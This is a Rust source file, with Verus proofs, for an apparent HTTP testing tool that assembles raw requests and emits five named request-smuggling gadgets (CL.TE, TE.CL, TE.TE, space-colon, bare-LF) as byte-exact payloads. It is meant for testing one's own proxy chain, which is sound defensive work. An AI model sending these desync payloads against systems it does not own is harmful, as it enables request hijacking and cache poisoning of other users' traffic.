//! Craft raw HTTP/1.1 requests, including deliberately ambiguous gadgets.
//!
//! This is the write half of the tool: assemble a byte-exact request from a
//! spec (real CRLFs, an auto-computed Content-Length, or a chunked body), and
//! emit well-known desync gadgets for testing your **own** proxy chain. The
//! output is raw wire bytes, so it pipes straight into netcat:
//! `plainwire craft --smuggle cl.te | nc 127.0.0.1 80`. Feed the same bytes
//! back into `plainwire inspect -` and the corresponding findings light up.
//!
//! The text of a request is modelled as characters ([`head_text`],
//! [`gadget_text`]); the wire bytes are their UTF-8 encoding, followed by the
//! raw body where there is one.
use vstd::prelude::*;
use vstd::utf8::encode_utf8;
use crate::text::{ascii_ieq, chars_of, dec, hex, lower_all, lower_chars, push_char, push_dec, push_hex, push_str, str_eq, str_ieq, string_of};

verus! {

broadcast use vstd::string::group_string_axioms;

/// How to set Content-Length on a crafted request.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum ClMode {
    /// Add `Content-Length: <body length>` when a body is present.
    Auto,
    /// Never add a Content-Length header.
    Omit,
    /// Force an exact value (may deliberately mismatch the body).
    Explicit(usize),
}

/// A request to assemble.
#[derive(Debug, Clone)]
pub struct CraftSpec {
    pub method: String,
    pub target: String,
    pub version: String,
    pub host: String,
    /// Extra headers in order.
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
    /// Encode the body with `Transfer-Encoding: chunked`.
    pub chunked: bool,
    pub content_length: ClMode,
}

/// The model of a [`CraftSpec`]: its strings as characters.
pub struct CraftView {
    pub method: Seq<char>,
    pub target: Seq<char>,
    pub version: Seq<char>,
    pub host: Seq<char>,
    pub headers: Seq<(Seq<char>, Seq<char>)>,
    pub body: Seq<u8>,
    pub chunked: bool,
    pub content_length: ClMode,
}

/// The characters of each header name and value.
pub open spec fn header_pairs(hs: Seq<(String, String)>) -> Seq<(Seq<char>, Seq<char>)> {
    hs.map_values(|p: (String, String)| (p.0@, p.1@))
}

impl View for CraftSpec {
    type V = CraftView;

    open spec fn view(&self) -> CraftView {
        CraftView {
            method: self.method@,
            target: self.target@,
            version: self.version@,
            host: self.host@,
            headers: header_pairs(self.headers@),
            body: self.body@,
            chunked: self.chunked,
            content_length: self.content_length,
        }
    }
}

/// A new string holding `s`.
pub(crate) fn string_from(s: &str) -> (t: String)
    ensures
        t@ == s@,
{
    let mut t = String::new();
    push_str(&mut t, s);
    t
}

/// The default request: `GET / HTTP/1.1` to `example.test`, no extra
/// headers, no body, an automatic Content-Length.
pub open spec fn default_view() -> CraftView {
    CraftView {
        method: "GET"@,
        target: "/"@,
        version: "HTTP/1.1"@,
        host: "example.test"@,
        headers: Seq::empty(),
        body: Seq::empty(),
        chunked: false,
        content_length: ClMode::Auto,
    }
}

impl Default for CraftSpec {
    fn default() -> (d: Self)
        ensures
            d@ == default_view(),
    {
        let d = CraftSpec {
            method: string_from("GET"),
            target: string_from("/"),
            version: string_from("HTTP/1.1"),
            host: string_from("example.test"),
            headers: Vec::new(),
            body: Vec::new(),
            chunked: false,
            content_length: ClMode::Auto,
        };
        assert(header_pairs(d.headers@) =~= Seq::empty());
        d
    }
}

// ---------------------------------------------------------------------------
// The request text
// ---------------------------------------------------------------------------

pub open spec fn crlf() -> Seq<char> {
    seq!['\r', '\n']
}

/// Whether an extra header already names the host (ignoring ASCII case).
pub open spec fn has_host(hs: Seq<(Seq<char>, Seq<char>)>) -> bool {
    exists|i: int| 0 <= i < hs.len() && ascii_ieq(#[trigger] hs[i].0, "host"@)
}

/// `<method> <target> <version>` and its CRLF.
pub open spec fn request_line_text(v: CraftView) -> Seq<char> {
    v.method + seq![' '] + v.target + seq![' '] + v.version + crlf()
}

/// The `Host` line: present unless an extra header already names the host or
/// the host is empty.
pub open spec fn host_text(v: CraftView) -> Seq<char> {
    if !has_host(v.headers) && v.host.len() > 0 {
        "Host: "@ + v.host + crlf()
    } else {
        Seq::empty()
    }
}

/// The extra header lines, in order, each as `name: value` and CRLF.
pub open spec fn headers_text(hs: Seq<(Seq<char>, Seq<char>)>) -> Seq<char>
    decreases hs.len(),
{
    if hs.len() == 0 {
        Seq::empty()
    } else {
        headers_text(hs.drop_last()) + hs.last().0 + seq![':', ' '] + hs.last().1 + crlf()
    }
}

/// The framing header, the blank line that ends the header block, and (for a
/// chunked, non-empty body) the single chunk's size line.
pub open spec fn framing_text(v: CraftView) -> Seq<char> {
    if v.chunked {
        "Transfer-Encoding: chunked"@ + crlf() + crlf() + (if v.body.len() > 0 {
            hex(v.body.len()) + crlf()
        } else {
            Seq::empty()
        })
    } else {
        (match v.content_length {
            ClMode::Auto => if v.body.len() > 0 {
                "Content-Length: "@ + dec(v.body.len()) + crlf()
            } else {
                Seq::empty()
            },
            ClMode::Explicit(n) => "Content-Length: "@ + dec(n as nat) + crlf(),
            ClMode::Omit => Seq::empty(),
        }) + crlf()
    }
}

/// Everything of a crafted request that is text, in wire order.
pub open spec fn head_text(v: CraftView) -> Seq<char> {
    request_line_text(v) + host_text(v) + headers_text(v.headers) + framing_text(v)
}

/// The bytes of a crafted request: the encoded head, then the body (for a
/// chunked request: the body as one chunk, then the `0` chunk and the final
/// CRLF).
pub open spec fn build_spec(v: CraftView) -> Seq<u8> {
    encode_utf8(head_text(v)) + if v.chunked {
        (if v.body.len() > 0 {
            v.body + seq![13u8, 10u8]
        } else {
            Seq::empty()
        }) + seq![48u8, 13u8, 10u8, 13u8, 10u8]
    } else {
        v.body
    }
}

/// Append bytes to a byte vector.
fn push_bytes(out: &mut Vec<u8>, b: &[u8])
    ensures
        final(out)@ == old(out)@ + b@,
{
    let ghost start = out@;
    let mut i: usize = 0;
    while i < b.len()
        invariant
            i <= b@.len(),
            out@ == start + b@.take(i as int),
        decreases b@.len() - i,
    {
        out.push(b[i]);
        i += 1;
        assert(out@ =~= start + b@.take(i as int));
    }
    assert(b@.take(b@.len() as int) =~= b@);
}

/// The UTF-8 bytes of a string.
pub(crate) fn bytes_of(s: &str) -> (v: Vec<u8>)
    ensures
        v@ == encode_utf8(s@),
{
    let mut v: Vec<u8> = Vec::new();
    push_bytes(&mut v, s.as_bytes());
    assert(v@ =~= encode_utf8(s@));
    v
}

/// Whether any extra header is named `host` in any ASCII case.
fn names_host(hs: &Vec<(String, String)>) -> (r: bool)
    ensures
        r == has_host(header_pairs(hs@)),
{
    let ghost pairs = header_pairs(hs@);
    let mut i: usize = 0;
    while i < hs.len()
        invariant
            i <= hs@.len(),
            pairs == header_pairs(hs@),
            pairs.len() == hs@.len(),
            forall|j: int| 0 <= j < i ==> !ascii_ieq(#[trigger] pairs[j].0, "host"@),
        decreases hs@.len() - i,
    {
        if str_ieq(hs[i].0.as_str(), "host") {
            assert(pairs[i as int].0 == hs@[i as int].0@);
            return true;
        }
        i += 1;
    }
    false
}

fn push_headers(out: &mut String, hs: &Vec<(String, String)>)
    ensures
        final(out)@ == old(out)@ + headers_text(header_pairs(hs@)),
{
    let ghost start = out@;
    let ghost pairs = header_pairs(hs@);
    let mut i: usize = 0;
    while i < hs.len()
        invariant
            i <= hs@.len(),
            pairs == header_pairs(hs@),
            pairs.len() == hs@.len(),
            out@ == start + headers_text(pairs.take(i as int)),
        decreases hs@.len() - i,
    {
        push_str(out, hs[i].0.as_str());
        push_char(out, ':');
        push_char(out, ' ');
        push_str(out, hs[i].1.as_str());
        push_char(out, '\r');
        push_char(out, '\n');
        assert(pairs.take(i + 1).drop_last() =~= pairs.take(i as int));
        i += 1;
        assert(out@ =~= start + headers_text(pairs.take(i as int)));
    }
    assert(pairs.take(hs@.len() as int) =~= pairs);
}

fn push_framing(out: &mut String, spec: &CraftSpec)
    ensures
        final(out)@ == old(out)@ + framing_text(spec@),
{
    let ghost start = out@;
    let n = spec.body.len();
    if spec.chunked {
        push_str(out, "Transfer-Encoding: chunked");
        push_char(out, '\r');
        push_char(out, '\n');
        push_char(out, '\r');
        push_char(out, '\n');
        if n > 0 {
            push_hex(out, n as u64);
            push_char(out, '\r');
            push_char(out, '\n');
        }
    } else {
        match spec.content_length {
            ClMode::Auto => {
                if n > 0 {
                    push_str(out, "Content-Length: ");
                    push_dec(out, n as u64);
                    push_char(out, '\r');
                    push_char(out, '\n');
                }
            },
            ClMode::Explicit(k) => {
                push_str(out, "Content-Length: ");
                push_dec(out, k as u64);
                push_char(out, '\r');
                push_char(out, '\n');
            },
            ClMode::Omit => {},
        }
        push_char(out, '\r');
        push_char(out, '\n');
    }
    assert(out@ =~= start + framing_text(spec@));
}

/// Assemble a request from `spec` into raw wire bytes.
pub fn build(spec: &CraftSpec) -> (out: Vec<u8>)
    ensures
        out@ == build_spec(spec@),
{
    let mut head = String::new();
    push_str(&mut head, spec.method.as_str());
    push_char(&mut head, ' ');
    push_str(&mut head, spec.target.as_str());
    push_char(&mut head, ' ');
    push_str(&mut head, spec.version.as_str());
    push_char(&mut head, '\r');
    push_char(&mut head, '\n');
    assert(head@ =~= request_line_text(spec@));
    let ghost h1 = head@;
    if !names_host(&spec.headers) && !spec.host.as_str().is_empty() {
        push_str(&mut head, "Host: ");
        push_str(&mut head, spec.host.as_str());
        push_char(&mut head, '\r');
        push_char(&mut head, '\n');
    }
    assert(head@ =~= h1 + host_text(spec@));
    push_headers(&mut head, &spec.headers);
    push_framing(&mut head, spec);
    assert(head@ =~= head_text(spec@));
    let mut out = bytes_of(head.as_str());
    if spec.chunked {
        if spec.body.len() > 0 {
            push_bytes(&mut out, spec.body.as_slice());
            out.push(13u8);
            out.push(10u8);
        }
        out.push(48u8);
        out.push(13u8);
        out.push(10u8);
        out.push(13u8);
        out.push(10u8);
    } else {
        push_bytes(&mut out, spec.body.as_slice());
    }
    assert(out@ =~= build_spec(spec@));
    out
}

// ---------------------------------------------------------------------------
// Gadgets
// ---------------------------------------------------------------------------

/// A named request-smuggling gadget.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum Gadget {
    /// Front-end honours Content-Length, back-end honours Transfer-Encoding.
    ClTe,
    /// Front-end honours Transfer-Encoding, back-end honours Content-Length.
    TeCl,
    /// Two Transfer-Encoding headers, one obfuscated (parsers disagree).
    TeTe,
    /// Whitespace before the colon hides Transfer-Encoding from strict parsers.
    SpaceColon,
    /// A bare LF terminator hides the header from CRLF-strict parsers.
    BareLf,
}

/// The gadget a lowercased name selects.
pub open spec fn gadget_named(n: Seq<char>) -> Option<Gadget> {
    if n == "cl.te"@ || n == "clte"@ {
        Some(Gadget::ClTe)
    } else if n == "te.cl"@ || n == "tecl"@ {
        Some(Gadget::TeCl)
    } else if n == "te.te"@ || n == "tete"@ {
        Some(Gadget::TeTe)
    } else if n == "space-colon"@ || n == "spacecolon"@ {
        Some(Gadget::SpaceColon)
    } else if n == "bare-lf"@ || n == "barelf"@ {
        Some(Gadget::BareLf)
    } else {
        None
    }
}

/// The gadget names and their one-line descriptions, in listing order.
pub open spec fn gadget_list() -> Seq<(Seq<char>, Seq<char>)> {
    seq![
        ("cl.te"@, "Content-Length front-end, Transfer-Encoding back-end"@),
        ("te.cl"@, "Transfer-Encoding front-end, Content-Length back-end"@),
        ("te.te"@, "duplicate Transfer-Encoding, one obfuscated"@),
        ("space-colon"@, "whitespace before the colon on Transfer-Encoding"@),
        ("bare-lf"@, "bare LF line ending on Transfer-Encoding"@),
    ]
}

impl Gadget {
    /// Parse a gadget name (as passed to `--smuggle`), ignoring ASCII case.
    pub fn parse(name: &str) -> (g: Option<Gadget>)
        ensures
            g == gadget_named(lower_all(name@)),
    {
        let cs = chars_of(name);
        let low = lower_chars(cs.as_slice());
        let n = string_of(low.as_slice());
        let n = n.as_str();
        if str_eq(n, "cl.te") || str_eq(n, "clte") {
            Some(Gadget::ClTe)
        } else if str_eq(n, "te.cl") || str_eq(n, "tecl") {
            Some(Gadget::TeCl)
        } else if str_eq(n, "te.te") || str_eq(n, "tete") {
            Some(Gadget::TeTe)
        } else if str_eq(n, "space-colon") || str_eq(n, "spacecolon") {
            Some(Gadget::SpaceColon)
        } else if str_eq(n, "bare-lf") || str_eq(n, "barelf") {
            Some(Gadget::BareLf)
        } else {
            None
        }
    }

    /// All gadget names with a description, for help text and listings.
    pub fn all() -> (v: Vec<(&'static str, &'static str)>)
        ensures
            v@.map_values(|p: (&'static str, &'static str)| (p.0@, p.1@)) == gadget_list(),
    {
        let mut v = Vec::new();
        v.push(("cl.te", "Content-Length front-end, Transfer-Encoding back-end"));
        v.push(("te.cl", "Transfer-Encoding front-end, Content-Length back-end"));
        v.push(("te.te", "duplicate Transfer-Encoding, one obfuscated"));
        v.push(("space-colon", "whitespace before the colon on Transfer-Encoding"));
        v.push(("bare-lf", "bare LF line ending on Transfer-Encoding"));
        assert(v@.map_values(|p: (&'static str, &'static str)| (p.0@, p.1@)) =~= gadget_list());
        v
    }
}

/// What follows the Host value in each gadget: the framing headers and the
/// fixed body that makes it a proof of concept.
pub open spec fn gadget_tail(g: Gadget) -> Seq<char> {
    match g {
        Gadget::ClTe => "\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"@,
        Gadget::TeCl => "\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n8\r\nSMUGGLED\r\n0\r\n\r\n"@,
        Gadget::TeTe => "\r\nTransfer-Encoding: xchunked\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nZ\r\n0\r\n\r\n"@,
        Gadget::SpaceColon => "\r\nContent-Length: 6\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\nG"@,
        Gadget::BareLf => "\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\n\r\n0\r\n\r\nG"@,
    }
}

/// The full text of a gadget request.
pub open spec fn gadget_text(g: Gadget, host: Seq<char>, target: Seq<char>) -> Seq<char> {
    "POST "@ + target + " HTTP/1.1\r\nHost: "@ + host + gadget_tail(g)
}

/// Emit the raw bytes of a smuggling gadget. `host` and `target` customise the
/// request line and Host header; the framing payload is fixed so the gadget
/// stays a faithful, minimal proof of concept.
pub fn gadget(g: Gadget, host: &str, target: &str) -> (out: Vec<u8>)
    ensures
        out@ == encode_utf8(gadget_text(g, host@, target@)),
{
    let mut s = String::new();
    push_str(&mut s, "POST ");
    push_str(&mut s, target);
    push_str(&mut s, " HTTP/1.1\r\nHost: ");
    push_str(&mut s, host);
    match g {
        // CL=6 equals the length of "0\r\n\r\nG": the CL hop forwards all 6
        // bytes, the TE hop stops at the 0-chunk and leaves "G" as the next
        // request's first byte.
        Gadget::ClTe => push_str(
            &mut s,
            "\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG",
        ),
        // CL=3 equals the length of "8\r\n": the CL hop stops there while the
        // TE hop consumes the whole chunked body.
        Gadget::TeCl => push_str(
            &mut s,
            "\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n8\r\nSMUGGLED\r\n0\r\n\r\n",
        ),
        // The obfuscated coding comes first so a lenient parser still frames
        // the body as chunked while flagging the duplicate + obfuscation.
        Gadget::TeTe => push_str(
            &mut s,
            "\r\nTransfer-Encoding: xchunked\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nZ\r\n0\r\n\r\n",
        ),
        Gadget::SpaceColon => push_str(
            &mut s,
            "\r\nContent-Length: 6\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\nG",
        ),
        // The Transfer-Encoding line ends with a bare LF (\n) rather than CRLF.
        Gadget::BareLf => push_str(
            &mut s,
            "\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\n\r\n0\r\n\r\nG",
        ),
    }
    assert(s@ =~= gadget_text(g, host@, target@));
    bytes_of(s.as_str())
}

// ---------------------------------------------------------------------------
// Laws
// ---------------------------------------------------------------------------

pub(crate) proof fn lemma_encode_utf8_concat(a: Seq<char>, b: Seq<char>)
    ensures
        encode_utf8(a + b) == encode_utf8(a) + encode_utf8(b),
    decreases a.len(),
{
    if a.len() == 0 {
        assert(a + b =~= b);
        assert(encode_utf8(a) =~= Seq::<u8>::empty());
        assert(encode_utf8(a) + encode_utf8(b) =~= encode_utf8(b));
    } else {
        assert((a + b)[0] == a[0]);
        assert((a + b).drop_first() =~= a.drop_first() + b);
        lemma_encode_utf8_concat(a.drop_first(), b);
        assert(encode_utf8(a + b) =~= encode_utf8(a) + encode_utf8(b));
    }
}

/// With an automatic Content-Length, a plain request with a body declares
/// exactly the body's length, ends its header block there, and ends with the
/// body bytes unchanged.
pub proof fn law_auto_content_length_matches_body(v: CraftView)
    requires
        !v.chunked,
        v.content_length == ClMode::Auto,
        v.body.len() > 0,
    ensures
        head_text(v) == request_line_text(v) + host_text(v) + headers_text(v.headers)
            + "Content-Length: "@ + dec(v.body.len()) + crlf() + crlf(),
        build_spec(v) == encode_utf8(head_text(v)) + v.body,
{
    assert(head_text(v) =~= request_line_text(v) + host_text(v) + headers_text(v.headers)
        + "Content-Length: "@ + dec(v.body.len()) + crlf() + crlf());
}

/// A forced Content-Length is written as given, whatever the body: the head
/// of a non-chunked request with `ClMode::Explicit(n)` is the request line,
/// the Host line, the extra headers, the line `Content-Length: n` and the
/// blank line, and the body follows unchanged, so a deliberately mismatched
/// request can be crafted.
pub proof fn law_forced_content_length_is_written_as_given(v: CraftView, n: usize)
    requires
        !v.chunked,
        v.content_length == ClMode::Explicit(n),
    ensures
        head_text(v) == request_line_text(v) + host_text(v) + headers_text(v.headers)
            + "Content-Length: "@ + dec(n as nat) + crlf() + crlf(),
        build_spec(v) == encode_utf8(head_text(v)) + v.body,
{
    assert(head_text(v) =~= request_line_text(v) + host_text(v) + headers_text(v.headers)
        + "Content-Length: "@ + dec(n as nat) + crlf() + crlf());
}

/// The head of a request with a forced Content-Length does not depend on the
/// body: two requests that differ only in their bodies get the same head, and
/// their bytes differ only after it.
pub proof fn law_forced_head_ignores_the_body(v: CraftView, w: CraftView, n: usize)
    requires
        !v.chunked,
        v.content_length == ClMode::Explicit(n),
        w == (CraftView { body: w.body, ..v }),
    ensures
        head_text(v) == head_text(w),
        build_spec(w) == encode_utf8(head_text(v)) + w.body,
{
    law_forced_content_length_is_written_as_given(v, n);
    law_forced_content_length_is_written_as_given(w, n);
}

/// Without a Content-Length (`ClMode::Omit`), a non-chunked request has no
/// framing line at all: its head ends with the extra headers and the blank
/// line.
pub proof fn law_omitted_content_length_writes_no_line(v: CraftView)
    requires
        !v.chunked,
        v.content_length == ClMode::Omit,
    ensures
        head_text(v) == request_line_text(v) + host_text(v) + headers_text(v.headers) + crlf(),
        build_spec(v) == encode_utf8(head_text(v)) + v.body,
{
    assert(head_text(v) =~= request_line_text(v) + host_text(v) + headers_text(v.headers)
        + crlf());
}

/// When an extra header already names the host (in any ASCII case), no
/// second Host line is added.
pub proof fn law_extra_host_header_is_not_duplicated(v: CraftView)
    requires
        has_host(v.headers),
    ensures
        head_text(v) == request_line_text(v) + headers_text(v.headers) + framing_text(v),
{
    assert(head_text(v) =~= request_line_text(v) + headers_text(v.headers) + framing_text(v));
}

/// A chunked request carries its whole body as one chunk and always ends
/// with the zero-size chunk and the final CRLF.
pub proof fn law_chunked_request_ends_with_terminator(v: CraftView)
    requires
        v.chunked,
    ensures
        build_spec(v).len() >= 5,
        build_spec(v).subrange(build_spec(v).len() - 5, build_spec(v).len() as int) == seq![
            48u8,
            13u8,
            10u8,
            13u8,
            10u8,
        ],
        v.body.len() > 0 ==> build_spec(v) == encode_utf8(head_text(v)) + v.body + seq![
            13u8,
            10u8,
            48u8,
            13u8,
            10u8,
            13u8,
            10u8,
        ],
{
    let t = seq![48u8, 13u8, 10u8, 13u8, 10u8];
    let rest = if v.body.len() > 0 {
        v.body + seq![13u8, 10u8]
    } else {
        Seq::empty()
    };
    assert(build_spec(v) == encode_utf8(head_text(v)) + rest + t);
    assert(build_spec(v).subrange(build_spec(v).len() - 5, build_spec(v).len() as int) =~= t);
    if v.body.len() > 0 {
        assert(build_spec(v) =~= encode_utf8(head_text(v)) + v.body + seq![
            13u8,
            10u8,
            48u8,
            13u8,
            10u8,
            13u8,
            10u8,
        ]);
    }
}

/// A gadget's framing payload is fixed: whatever the host and target, its
/// bytes are the request line and Host value followed by the same tail.
pub proof fn law_gadget_payload_is_fixed(g: Gadget, host: Seq<char>, target: Seq<char>)
    ensures
        encode_utf8(gadget_text(g, host, target)) == encode_utf8(
            "POST "@ + target + " HTTP/1.1\r\nHost: "@ + host,
        ) + encode_utf8(gadget_tail(g)),
{
    lemma_encode_utf8_concat("POST "@ + target + " HTTP/1.1\r\nHost: "@ + host, gadget_tail(g));
}

} // verus!
